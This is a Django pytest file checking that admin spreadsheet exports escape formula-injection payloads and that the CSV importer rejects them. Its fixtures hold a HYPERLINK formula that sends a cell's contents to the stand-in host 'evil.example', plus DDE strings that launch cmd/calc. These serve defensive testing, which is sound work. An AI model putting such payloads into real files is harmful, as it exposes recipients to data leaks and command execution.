"""Every spreadsheet the admin hands out shows a formula someone typed as text, never runs it (OWASP's rule)."""

import csv
import datetime
import io

import pytest
from django.contrib.auth import get_user_model
from openpyxl import load_workbook

from directory.area_profiles import load_area
from directory.factories import OrganisationPageFactory, ServicePageFactory

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Click for help")'
ORGANISATION = "+Formula Org"
RISKY_STARTS = ("=", "+", "-", "@", "\t", "\r")

# Each export, and the payload a stranger or an import can put in it.
EXPORTS = [
    "/admin/reports/search-log/",
    "/admin/providers/listings-to-check/",
    "/admin/reports/aging-pages/",
    "/admin/reports/site-history/",
]

pytestmark = pytest.mark.django_db


@pytest.fixture
def payloads(client):
    load_area("west-sussex")
    organisation = OrganisationPageFactory(title=ORGANISATION)
    service = ServicePageFactory(parent=organisation, title=FORMULA, slug="formula")
    service.last_reviewed = datetime.date.today() - datetime.timedelta(days=400)
    service.save_revision(log_action=True).publish()
    client.get("/search/", {"q": FORMULA})
    client.get("/api/search", {"q": "@SUM(1+1)*cmd|' /C calc'!A0"})


@pytest.fixture
def admin_client(client):
    admin = get_user_model().objects.create_superuser("root", "root@example.org", "not-a-real-password-42")
    client.force_login(admin)
    return client


def csv_cells(response):
    text = b"".join(response.streaming_content if response.streaming else [response.content]).decode("utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def xlsx_cells(response):
    content = b"".join(response.streaming_content) if response.streaming else response.content
    workbook = load_workbook(io.BytesIO(content))
    cells = [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]
    assert all(cell.data_type != "f" for cell in cells)
    return [cell.value for cell in cells if isinstance(cell.value, str)]


@pytest.mark.parametrize("url", EXPORTS)
@pytest.mark.parametrize("format, cells_of", [("csv", csv_cells), ("xlsx", xlsx_cells)])
def test_every_export_neutralises_formulas(admin_client, payloads, url, format, cells_of):
    response = admin_client.get(url, {"export": format})
    assert response.status_code == 200
    cells = cells_of(response)
    assert cells, "the export is empty"
    assert not [cell for cell in cells if cell.startswith(RISKY_STARTS)]
    assert any(cell.lstrip("'").lower().startswith("=hyperlink(") for cell in cells)


def test_the_listings_export_keeps_the_organisation_as_text(admin_client, payloads):
    cells = csv_cells(admin_client.get("/admin/providers/listings-to-check/", {"export": "csv"}))
    assert "'" + ORGANISATION in cells
    assert "'" + FORMULA in cells


def import_problems(**cells):
    from directory.exchange.csv_import import COLUMNS, CsvImportError, import_services_csv

    record = {column: "" for column in COLUMNS} | {
        "organisation": "Acorn Family Trust",
        "service name": "Stay and play",
        "summary": "Play for toddlers.",
        "phone": "+44 1903 123456",
    }
    out = io.StringIO()
    writer = csv.DictWriter(out, fieldnames=COLUMNS)
    writer.writeheader()
    writer.writerow(record | cells)
    try:
        import_services_csv(out.getvalue().encode(), create_organisations=True)
    except CsvImportError as error:
        return [(problem.row, problem.column, problem.message) for problem in error.problems]
    return []


@pytest.mark.parametrize(
    "column, value",
    [
        ("service name", FORMULA),
        ("organisation", ORGANISATION),
        ("summary", "-2+3+cmd|' /C calc'!A0"),
        ("eligibility", "@SUM(A1:A9)"),
        ("phone", "+cmd|' /C calc'!A0"),
    ],
)
def test_the_csv_importer_refuses_a_formula_cell_with_its_row_and_column(column, value):
    load_area("west-sussex")
    problems = import_problems(**{column: value})
    assert [(row, name) for row, name, _ in problems] == [(2, column)]
    assert "formula" in problems[0][2]


def test_the_csv_importer_takes_an_international_phone_number():
    load_area("west-sussex")
    assert import_problems() == []
